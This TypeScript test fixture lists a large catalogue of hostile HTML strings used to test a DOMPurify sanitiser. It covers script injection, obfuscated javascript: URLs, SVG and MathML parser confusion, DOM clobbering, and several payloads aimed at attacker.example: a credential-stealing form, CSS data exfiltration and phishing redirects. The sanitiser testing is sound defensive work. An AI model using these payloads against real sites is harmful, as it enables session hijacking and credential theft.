/**
 * Hostile HTML, as the dashboard could send it in `introduction` or `html_content`,
 * for testing the DOMPurify sanitiser in Node (jsdom) and in Chromium.
 *
 * Every vector that runs script calls the global `__xss(n)`, where n is the vector's
 * 1-based position in `xssVectors`. A browser test defines `window.__xss` and fails
 * when it is called. Vectors whose script would run in a same-origin child frame
 * (iframe srcdoc, javascript: in iframe/frame/embed/object, data: documents) call
 * `parent.__xss(n)`, which is the same function when the context is the top window.
 * The `data:...;base64,` payloads decode to `<script>parent.__xss(n)</script>`.
 * Hosts are all under the reserved `.example` domain.
 */
interface XssVector {
  /** Short unique name, e.g. 'img onerror' */
  name: string
  /** The hostile HTML as a dashboard could send it */
  html: string
}

export const xssVectors: XssVector[] = [
  // <script> elements
  { name: 'script plain', html: '<script>__xss(1)</script>' },
  { name: 'script uppercase', html: '<SCRIPT>__xss(2)</SCRIPT>' },
  { name: 'script mixed case', html: '<ScRiPt>__xss(3)</sCrIpT>' },
  { name: 'script split nested', html: '<scr<script>ipt>__xss(4)</scr</script>ipt>' },
  { name: 'script split by removable tag', html: '<scr<b>ipt>__xss(5)</scr</b>ipt>' },
  { name: 'script src external', html: '<script src="https://attacker.example/xss.js?6"></script>' },
  { name: 'script src data url', html: '<script src="data:text/javascript,__xss(7)"></script>' },
  { name: 'script type module', html: '<script type="module">__xss(8)</script>' },
  { name: 'script type text/javascript async', html: '<script type="text/javascript" async defer>__xss(9)</script>' },
  { name: 'script type application/ecmascript', html: '<script type="application/ecmascript">__xss(10)</script>' },
  { name: 'script language attribute', html: '<script language="JavaScript1.5">__xss(11)</script>' },
  { name: 'script slash instead of space', html: '<script/x>__xss(12)</script>' },
  { name: 'script closing tag with junk', html: '<script>__xss(13)</script foo="bar">' },
  { name: 'script unclosed', html: '<script>__xss(14)' },
  { name: 'script with null byte in tag name', html: '<scr\u0000ipt>__xss(15)</scr\u0000ipt>' },
  { name: 'script cdata comment wrapper', html: '<script><!--\n__xss(16)\n//--></script>' },

  // Event-handler attributes
  { name: 'img onerror', html: '<img src="x" onerror="__xss(17)">' },
  { name: 'img onerror empty src unquoted', html: '<img src onerror=__xss(18)>' },
  { name: 'img slash separators', html: '<img/src="x"/onerror="__xss(19)">' },
  { name: 'img uppercase handler', html: '<IMG SRC=x ONERROR="__xss(20)">' },
  { name: 'img newline before handler', html: '<img src=x\nonerror=__xss(21)>' },
  { name: 'img handler entity encoded', html: '<img src=x onerror="&#95;&#95;xss(22)">' },
  { name: 'img handler hex entities no semicolon', html: '<img src=x onerror=&#x5f&#x5fxss(23)>' },
  {
    name: 'img onload valid data image',
    html: '<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="__xss(24)">',
  },
  { name: 'svg onload', html: '<svg onload="__xss(25)"></svg>' },
  { name: 'svg slash onload', html: '<svg/onload=__xss(26)>' },
  { name: 'body onload', html: '<body onload="__xss(27)">' },
  { name: 'body onpageshow', html: '<body onpageshow="__xss(28)">' },
  { name: 'input autofocus onfocus', html: '<input autofocus onfocus="__xss(29)">' },
  { name: 'textarea autofocus onfocus', html: '<textarea autofocus onfocus="__xss(30)"></textarea>' },
  { name: 'select autofocus onfocus', html: '<select autofocus onfocus="__xss(31)"><option>x</option></select>' },
  { name: 'custom element tabindex autofocus onfocus', html: '<x-xss tabindex="1" autofocus onfocus="__xss(32)">x</x-xss>' },
  { name: 'contenteditable onfocus', html: '<div contenteditable autofocus onfocus="__xss(33)">x</div>' },
  { name: 'details ontoggle', html: '<details open ontoggle="__xss(34)"><summary>x</summary>y</details>' },
  { name: 'video onerror', html: '<video src="x" onerror="__xss(35)"></video>' },
  { name: 'video source onerror', html: '<video><source src="x" onerror="__xss(36)"></video>' },
  { name: 'audio onerror', html: '<audio src="x" onerror="__xss(37)"></audio>' },
  { name: 'marquee onstart', html: '<marquee onstart="__xss(38)">x</marquee>' },
  { name: 'iframe onload', html: '<iframe onload="__xss(39)"></iframe>' },
  { name: 'object onerror', html: '<object data="x" onerror="__xss(40)"></object>' },
  { name: 'style onload', html: '<style onload="__xss(41)"></style>' },
  { name: 'link stylesheet onload', html: '<link rel="stylesheet" href="data:text/css," onload="__xss(42)">' },
  { name: 'animation onanimationstart', html: '<style>@keyframes xss{}</style><div style="animation-name:xss" onanimationstart="__xss(43)">x</div>' },
  {
    name: 'fullscreen div onmouseover',
    html: '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647" onmouseover="__xss(44)">x</div>',
  },
  { name: 'a onclick', html: '<a href="#" onclick="__xss(45)">click me</a>' },
  { name: 'hidden input accesskey onclick', html: '<input type="hidden" accesskey="x" onclick="__xss(46)">' },
  { name: 'svg animate onbegin', html: '<svg><animate onbegin="__xss(47)" attributeName="x" dur="1s"></animate></svg>' },
  { name: 'svg image onerror', html: '<svg><image href="x" onerror="__xss(48)"></image></svg>' },
  { name: 'frameset onload', html: '<frameset onload="__xss(49)"><frame src="about:blank"></frameset>' },
  { name: 'keygen autofocus onfocus', html: '<keygen autofocus onfocus="__xss(50)">' },
  { name: 'isindex image onerror', html: '<isindex type="image" src="x" onerror="__xss(51)">' },
  { name: 'isindex action javascript', html: '<isindex action="javascript:__xss(52)" type="submit" value="click">' },

  // javascript: URLs in URL-bearing attributes
  { name: 'a href javascript', html: '<a href="javascript:__xss(53)">click</a>' },
  {
    name: 'area href javascript',
    html: '<map name="xss"><area shape="rect" coords="0,0,9999,9999" href="javascript:__xss(54)"></map><img usemap="#xss" src="x" width="500" height="500">',
  },
  { name: 'form action javascript', html: '<form action="javascript:__xss(55)"><input type="submit" value="go"></form>' },
  { name: 'button formaction javascript', html: '<form><button formaction="javascript:__xss(56)">go</button></form>' },
  { name: 'input submit formaction javascript', html: '<form><input type="submit" formaction="javascript:__xss(57)" value="go"></form>' },
  { name: 'input image formaction javascript', html: '<form><input type="image" src="x" formaction="javascript:__xss(58)"></form>' },
  { name: 'iframe src javascript', html: '<iframe src="javascript:parent.__xss(59)"></iframe>' },
  { name: 'frame src javascript', html: '<frameset><frame src="javascript:parent.__xss(60)"></frameset>' },
  { name: 'embed src javascript', html: '<embed src="javascript:parent.__xss(61)">' },
  { name: 'object data javascript', html: '<object data="javascript:parent.__xss(62)"></object>' },
  { name: 'object param src javascript', html: '<object><param name="src" value="javascript:parent.__xss(63)"></object>' },
  { name: 'img src javascript', html: '<img src="javascript:__xss(64)">' },
  { name: 'img srcset javascript', html: '<img srcset="javascript:__xss(65) 1x, javascript:__xss(65) 2x">' },
  { name: 'input image src javascript', html: '<input type="image" src="javascript:__xss(66)">' },
  { name: 'picture source srcset javascript', html: '<picture><source srcset="javascript:__xss(67)"><img src="x"></picture>' },
  { name: 'video source src javascript', html: '<video><source src="javascript:__xss(68)"></video>' },
  { name: 'video poster javascript', html: '<video poster="javascript:__xss(69)"></video>' },
  { name: 'link href javascript', html: '<link rel="stylesheet" href="javascript:__xss(70)">' },
  { name: 'base href javascript', html: '<base href="javascript:__xss(71)//"><a href="/relative">click</a>' },
  { name: 'svg a xlink:href javascript', html: '<svg><a xlink:href="javascript:__xss(72)"><text x="20" y="20">click</text></a></svg>' },
  { name: 'svg a href javascript', html: '<svg><a href="javascript:__xss(73)"><rect width="1000" height="1000"></rect></a></svg>' },
  { name: 'svg use href javascript', html: '<svg><use href="javascript:__xss(74)"></use></svg>' },
  { name: 'svg use xlink:href javascript uppercase', html: '<svg><use xlink:href="JAVASCRIPT:__xss(75)"></use></svg>' },
  { name: 'math href javascript', html: '<math href="javascript:__xss(76)"><mi>click</mi></math>' },
  { name: 'math mi xlink:href javascript', html: '<math><mi xlink:href="javascript:__xss(77)">click</mi></math>' },
  {
    name: 'math maction xlink:href javascript',
    html: '<math><maction actiontype="statusline" xlink:href="javascript:__xss(78)">click</maction></math>',
  },
  { name: 'blockquote cite javascript', html: '<blockquote cite="javascript:__xss(79)">quote</blockquote>' },
  { name: 'q cite javascript', html: '<q cite="javascript:__xss(80)">quote</q>' },
  { name: 'del and ins cite javascript', html: '<del cite="javascript:__xss(81)">a</del><ins cite="javascript:__xss(81)">b</ins>' },
  { name: 'a href javascript target blank rel opener', html: '<a href="javascript:__xss(82)" target="_blank" rel="opener">click</a>' },
  { name: 'a href javascript target top', html: '<a href="javascript:__xss(83)" target="_top" rel="noopener noreferrer">click</a>' },
  {
    name: 'a href javascript targeting named iframe',
    html: '<iframe name="xssframe"></iframe><a href="javascript:parent.__xss(84)" target="xssframe">click</a>',
  },
  { name: 'a reverse tabnabbing rel opener', html: '<a href="https://attacker.example/tabnab" target="_blank" rel="opener">read more</a>' },
  { name: 'a ping tracking', html: '<a href="https://site.example/" ping="https://attacker.example/ping">link</a>' },
  {
    name: 'form credential hijack',
    html: '<form action="https://attacker.example/steal" method="post"><input name="username"><input name="password" type="password"><button>Log in</button></form>',
  },

  // javascript: scheme obfuscation
  { name: 'href mixed case scheme', html: '<a href="JaVaScRiPt:__xss(88)">click</a>' },
  { name: 'href decimal entity j', html: '<a href="&#106;avascript:__xss(89)">click</a>' },
  { name: 'href hex entity j', html: '<a href="&#x6A;avascript:__xss(90)">click</a>' },
  { name: 'href fully decimal encoded no semicolons', html: '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58__xss(91)">click</a>' },
  { name: 'href zero padded hex entities', html: '<a href="&#x0000006A;&#x00061;vascript&#x0003A;__xss(92)">click</a>' },
  { name: 'href tab entity inside scheme', html: '<a href="java&#x09;script:__xss(93)">click</a>' },
  { name: 'href newline entity inside scheme', html: '<a href="java&#x0A;script:__xss(94)">click</a>' },
  { name: 'href carriage return entity inside scheme', html: '<a href="java&#13;script:__xss(95)">click</a>' },
  { name: 'href named tab and newline entities', html: '<a href="jav&Tab;asc&NewLine;ript:__xss(96)">click</a>' },
  { name: 'href literal tab inside scheme', html: '<a href="java\tscript:__xss(97)">click</a>' },
  { name: 'href null byte inside scheme', html: '<a href="java\u0000script:__xss(98)">click</a>' },
  { name: 'href colon named entity', html: '<a href="javascript&colon;__xss(99)">click</a>' },
  { name: 'href leading spaces', html: '<a href="   javascript:__xss(100)">click</a>' },
  { name: 'href leading control character entity', html: '<a href="&#14;javascript:__xss(101)">click</a>' },
  { name: 'href leading newline and tab', html: '<a href="\n\tjavascript:__xss(102)">click</a>' },
  { name: 'href unquoted javascript', html: '<a href=javascript:__xss(103)>click</a>' },
  { name: 'href percent encoded payload', html: '<a href="javascript:%5f%5fxss(104)">click</a>' },
  { name: 'href javascript comment newline', html: '<a href="javascript://%0a__xss(105)">click</a>' },
  { name: 'href vbscript', html: '<a href="vbscript:__xss(106)">click</a>' },
  { name: 'href vbscript uppercase', html: '<a href="VBSCRIPT:MsgBox(__xss(107))">click</a>' },
  { name: 'href data text/html base64', html: '<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMTA4KTwvc2NyaXB0Pg==">click</a>' },
  {
    name: 'iframe src data text/html base64',
    html: '<iframe src="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMTA5KTwvc2NyaXB0Pg=="></iframe>',
  },
  { name: 'iframe src data text/html plain', html: '<iframe src="data:text/html,&lt;script&gt;__xss(110)&lt;/script&gt;"></iframe>' },
  { name: 'object data text/html base64', html: '<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMTExKTwvc2NyaXB0Pg=="></object>' },
  { name: 'embed src data text/html base64', html: '<embed src="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMTEyKTwvc2NyaXB0Pg==">' },
  { name: 'iframe src mixed case entity javascript', html: '<iframe src="JaVa&#x53;cRiPt:parent.__xss(113)"></iframe>' },
  { name: 'form action entity tab javascript', html: '<form action="java&#x09;script:__xss(114)"><button>go</button></form>' },
  { name: 'svg a xlink:href entity javascript', html: '<svg><a xlink:href="&#x6A;avascript:__xss(115)"><text x="20" y="20">click</text></a></svg>' },

  // SVG
  {
    name: 'svg animate attributeName href',
    html: '<svg><a><animate attributeName="href" values="javascript:__xss(116)"></animate><text x="20" y="20">click</text></a></svg>',
  },
  {
    name: 'svg animate xlink:href from to',
    html: '<svg><a><animate attributeName="xlink:href" begin="0" from="javascript:__xss(117)" to="&"></animate><text x="20" y="20">click</text></a></svg>',
  },
  {
    name: 'svg set attributeName href',
    html: '<svg><a><set attributeName="href" to="javascript:__xss(118)"></set><text x="20" y="20">click</text></a></svg>',
  },
  {
    name: 'svg set attributeName onmouseover',
    html: '<svg><rect width="1000" height="1000"><set attributeName="onmouseover" to="__xss(119)"></set></rect></svg>',
  },
  {
    name: 'svg foreignObject img onerror',
    html: '<svg><foreignObject width="100" height="100"><img src="x" onerror="__xss(120)"></foreignObject></svg>',
  },
  { name: 'svg foreignObject script', html: '<svg><foreignObject><script>__xss(121)</script></foreignObject></svg>' },
  { name: 'svg script', html: '<svg><script>__xss(122)</script></svg>' },
  { name: 'svg script entity encoded body', html: '<svg><script>&#95;&#95;xss&#40;123&#41;</script></svg>' },
  { name: 'svg script href data', html: '<svg><script href="data:text/javascript,__xss(124)"></script></svg>' },
  { name: 'svg script xlink:href data', html: '<svg><script xlink:href="data:text/javascript,__xss(125)"></script></svg>' },
  { name: 'svg title img breakout', html: '<svg><title><img src="x" onerror="__xss(126)"></title></svg>' },
  { name: 'svg desc style breakout', html: '<svg><desc><style><img src="x" onerror="__xss(127)"></style></desc></svg>' },
  { name: 'svg style cdata breakout', html: '<svg><style><![CDATA[</style><img src="x" onerror="__xss(128)">]]></style></svg>' },
  { name: 'svg style entity reparse', html: '<svg><style>&lt;/style&gt;&lt;img src=x onerror=__xss(129)&gt;</style></svg>' },

  // MathML namespace confusion
  { name: 'mathml mglyph style namespace confusion', html: '<math><mtext><table><mglyph><style><img src=x onerror=__xss(130)>' },
  {
    name: 'mathml mglyph style comment title',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=__xss(131)&gt;">',
  },
  { name: 'mathml malignmark style', html: '<math><mtext><table><malignmark><style><img src=x onerror=__xss(132)>' },
  {
    name: 'mathml nested h1 a h6 mglyph svg',
    html: '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=__xss(133)>"></style></h1>',
  },
  {
    name: 'mathml annotation-xml text/html',
    html: '<math><annotation-xml encoding="text/html"><img src="x" onerror="__xss(134)"></annotation-xml></math>',
  },
  {
    name: 'mathml annotation-xml svg style',
    html: '<math><annotation-xml encoding="application/xhtml+xml"><style><img src=x onerror=__xss(135)></style></annotation-xml></math>',
  },
  { name: 'mathml mtext img', html: '<math><mtext><img src="x" onerror="__xss(136)"></mtext></math>' },

  // mXSS / parser differentials
  { name: 'noscript title breakout', html: '<noscript><p title="</noscript><img src=x onerror=__xss(137)>"></noscript>' },
  { name: 'noscript style breakout', html: '<noscript><style></noscript><img src=x onerror=__xss(138)></style></noscript>' },
  { name: 'svg p style a id', html: '<svg></p><style><a id="</style><img src=1 onerror=__xss(139)>">' },
  { name: 'form math mtext nested form', html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss(140)>' },
  { name: 'comment img src attribute', html: '<!--<img src="--><img src=x onerror=__xss(141)//">' },
  { name: 'comment bang close', html: '<!--x--!><img src=x onerror=__xss(142)>' },
  { name: 'comment abrupt close', html: '<!--><img src=x onerror=__xss(143)>-->' },
  { name: 'processing instruction bogus comment', html: '<?xml x="><img src=x onerror=__xss(144)>"?>' },
  { name: 'cdata in html bogus comment', html: '<![CDATA[><img src=x onerror=__xss(145)>]]>' },
  { name: 'textarea breakout', html: '<textarea><img title="</textarea><img src=x onerror=__xss(146)>"></textarea>' },
  { name: 'title breakout', html: '<title><img title="</title><img src=x onerror=__xss(147)>"></title>' },
  { name: 'xmp breakout', html: '<xmp><img title="</xmp><img src=x onerror=__xss(148)>"></xmp>' },
  { name: 'noembed breakout', html: '<noembed><img title="</noembed><img src=x onerror=__xss(149)>"></noembed>' },
  { name: 'noframes breakout', html: '<noframes><img title="</noframes><img src=x onerror=__xss(150)>"></noframes>' },
  { name: 'iframe rawtext breakout', html: '<iframe><img title="</iframe><img src=x onerror=__xss(151)>"></iframe>' },
  { name: 'style tag rawtext breakout', html: '<style><img title="</style><img src=x onerror=__xss(152)>"></style>' },
  { name: 'listing entity reparse', html: '<listing>&lt;img src=x onerror=__xss(153)&gt;</listing>' },
  { name: 'select style breakout', html: '<select><style></select><img src=x onerror=__xss(154)></style></select>' },
  { name: 'table foster parenting', html: '<table><tr><td>x</td></tr><img src=x onerror=__xss(155)></table>' },
  { name: 'attribute backtick quote', html: '<img src=`x` onerror=`__xss(156)`>' },
  { name: 'attribute value swallowing quote', html: '<img alt="x" src="x"onerror="__xss(157)">' },
  { name: 'template img onerror', html: '<template><img src="x" onerror="__xss(158)"></template>' },
  { name: 'template script', html: '<template><script>__xss(159)</script></template>' },
  { name: 'template nested in svg', html: '<svg><template><img src="x" onerror="__xss(160)"></template></svg>' },
  { name: 'template style breakout', html: '<template><style></template><img src=x onerror=__xss(161)></style></template>' },

  // srcdoc
  { name: 'iframe srcdoc escaped script', html: '<iframe srcdoc="&lt;script&gt;parent.__xss(162)&lt;/script&gt;"></iframe>' },
  { name: 'iframe srcdoc raw img onerror', html: '<iframe srcdoc="<img src=x onerror=parent.__xss(163)>"></iframe>' },
  {
    name: 'iframe srcdoc double encoded',
    html: '<iframe srcdoc="&amp;lt;img src=x onerror=parent.__xss(164)&amp;gt;&lt;script&gt;parent.__xss(164)&lt;/script&gt;"></iframe>',
  },
  {
    name: 'iframe srcdoc with sandbox allow-scripts same-origin',
    html: '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="&lt;svg onload=parent.__xss(165)&gt;"></iframe>',
  },

  // <base> and <meta>
  { name: 'base href attacker host', html: '<base href="https://attacker.example/"><script src="/article.js"></script><a href="/login">log in</a>' },
  { name: 'base target top', html: '<base href="https://attacker.example/" target="_top">' },
  { name: 'meta refresh javascript', html: '<meta http-equiv="refresh" content="0;url=javascript:__xss(168)">' },
  {
    name: 'meta refresh data url',
    html: '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMTY5KTwvc2NyaXB0Pg==">',
  },
  { name: 'meta refresh attacker host', html: '<meta http-equiv="refresh" content="0; url=https://attacker.example/phish">' },
  {
    name: 'meta content security policy override',
    html: `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline' 'unsafe-eval' *"><script>__xss(171)</script>`,
  },
  { name: 'meta set-cookie', html: '<meta http-equiv="Set-Cookie" content="session=attacker; path=/">' },
  { name: 'meta charset utf-7', html: '<meta charset="UTF-7">+ADw-script+AD4-__xss(173)+ADw-/script+AD4-' },

  // <object> / <embed>
  {
    name: 'object type text/html data url',
    html: '<object type="text/html" data="data:text/html,&lt;script&gt;__xss(174)&lt;/script&gt;"></object>',
  },
  {
    name: 'embed flash allowscriptaccess',
    html: '<embed src="https://attacker.example/xss.swf" type="application/x-shockwave-flash" allowscriptaccess="always">',
  },
  {
    name: 'object classid',
    html: '<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name="DataURL" value="javascript:__xss(176)"></object>',
  },
  { name: 'embed src entity javascript', html: '<embed src="&#106;avascript:parent.__xss(177)">' },

  // <style> tags and style attributes
  { name: 'style import javascript', html: '<style>@import "javascript:__xss(178)";</style>' },
  { name: 'style import attacker host', html: '<style>@import url(https://attacker.example/evil.css);</style>' },
  { name: 'style expression', html: '<style>*{width:expression(__xss(180))}</style>' },
  { name: 'style behavior htc', html: '<style>body{behavior:url(https://attacker.example/xss.htc)}</style>' },
  { name: 'style moz-binding', html: '<style>body{-moz-binding:url(https://attacker.example/xss.xml#xss)}</style>' },
  { name: 'style background javascript url', html: '<style>body{background-image:url("javascript:__xss(183)")}</style>' },
  { name: 'style attribute exfiltration', html: '<style>input[value^="a"]{background:url(https://attacker.example/leak?a)}</style>' },
  {
    name: 'style page takeover',
    html: '<style>body>*{display:none!important}body::after{content:"Session expired, log in at attacker.example";display:block}</style>',
  },
  { name: 'style attribute url javascript', html: '<div style="background-image:url(javascript:__xss(186))">x</div>' },
  { name: 'style attribute expression', html: '<div style="width:expression(__xss(187))">x</div>' },
  { name: 'style attribute css escapes', html: '<div style="background:url(\\6a\\61vascript:__xss(188))">x</div>' },
  { name: 'style attribute entity javascript', html: '<div style="background:url(&#106;avascript:__xss(189))">x</div>' },
  { name: 'style attribute comment split expression', html: '<div style="width:expr/**/ession(__xss(190))">x</div>' },
  {
    name: 'style attribute overlay',
    html: '<a href="javascript:__xss(191)" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;opacity:0">x</a>',
  },

  // <link>
  { name: 'link rel import', html: '<link rel="import" href="data:text/html,&lt;script&gt;__xss(192)&lt;/script&gt;">' },
  { name: 'link rel import attacker host', html: '<link rel="import" href="https://attacker.example/xss.html">' },
  { name: 'link stylesheet attacker host', html: '<link rel="stylesheet" href="https://attacker.example/evil.css">' },
  { name: 'link preload script', html: '<link rel="modulepreload" href="data:text/javascript,__xss(195)">' },

  // DOM clobbering
  { name: 'clobber __xss form', html: '<form id="__xss"><input name="x"></form>' },
  { name: 'clobber getElementById', html: '<img name="getElementById">' },
  { name: 'clobber defaultView', html: '<a id="defaultView"></a>' },
  { name: 'clobber document cookie', html: '<form name="cookie"></form>' },
  { name: 'clobber document body', html: '<img name="body">' },
  { name: 'clobber createElement', html: '<img name="createElement">' },
  { name: 'clobber form attributes', html: '<form id="f"><input name="attributes"><input name="nodeName"><input name="parentNode"></form>' },
  { name: 'clobber config url collection', html: '<a id="config"></a><a id="config" name="url" href="javascript:__xss(203)"></a>' },
  { name: 'clobber window global via anchor href', html: '<a id="scriptUrl" href="data:text/javascript,__xss(204)"></a>' },
  {
    name: 'clobber nested iframe name',
    html: '<iframe name="xssConfig" srcdoc="&lt;a id=src href=javascript:parent.__xss(205)&gt;&lt;/a&gt;"></iframe>',
  },

  // Entities, null bytes, unclosed tags
  { name: 'entity escaped markup double decode', html: '&lt;img src=x onerror=__xss(206)&gt;' },
  { name: 'double escaped markup', html: '&amp;lt;script&amp;gt;__xss(207)&amp;lt;/script&amp;gt;' },
  { name: 'null byte before handler', html: '<img src=x\u0000 onerror=__xss(208)>' },
  { name: 'null byte in src', html: '<img src="\u0000x" onerror="__xss(209)">' },
  { name: 'null entity in href', html: '<a href="java&#0;script:__xss(210)">click</a>' },
  { name: 'unclosed img tag', html: '<img src=x onerror="__xss(211)"' },
  { name: 'unclosed svg onload', html: '<svg onload=__xss(212)//' },
  { name: 'unclosed a href javascript', html: '<a href="javascript:__xss(213)">click' },
  { name: 'unclosed attribute quote', html: '<img src="x onerror=__xss(214)><img src=x onerror=__xss(214)>' },
  { name: 'extra less than', html: '<<img src=x onerror=__xss(215)>>' },
]
